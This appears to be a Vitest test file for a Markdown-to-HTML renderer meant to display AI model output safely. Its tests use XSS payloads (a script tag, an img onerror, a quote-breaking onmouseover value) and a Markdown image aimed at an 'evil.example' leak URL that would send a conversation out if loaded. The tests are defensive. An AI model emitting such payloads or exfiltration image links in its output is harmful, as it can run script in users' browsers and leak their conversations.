import { describe, expect, it } from 'vitest';
import { markdownToHtml } from './markdown.ts';

describe('markdownToHtml', () => {
  it('renders Markdown', () => {
    const html = markdownToHtml('# Title\n\n**bold** and `code`\n\n```ts\nconst a = 1 < 2;\n```');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<pre><code class="language-ts">const a = 1 &lt; 2;\n</code></pre>');
  });

  it('turns raw HTML from a model into text, block or inline', () => {
    const html = markdownToHtml('<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b>there</b>');
    expect(html).not.toMatch(/<script|<img|<b>/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('never loads an image: it becomes a link to follow or not', () => {
    const html = markdownToHtml('![secret](https://evil.example/leak?q=conversation "t")');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://evil.example/leak?q=conversation">secret</a>');
  });

  it('escapes quotes in an image address so it cannot add attributes', () => {
    const html = markdownToHtml('![x](https://a.example/"onmouseover="alert(1))');
    expect(html).toContain('href="https://a.example/&quot;onmouseover=&quot;alert(1)"');
  });
});
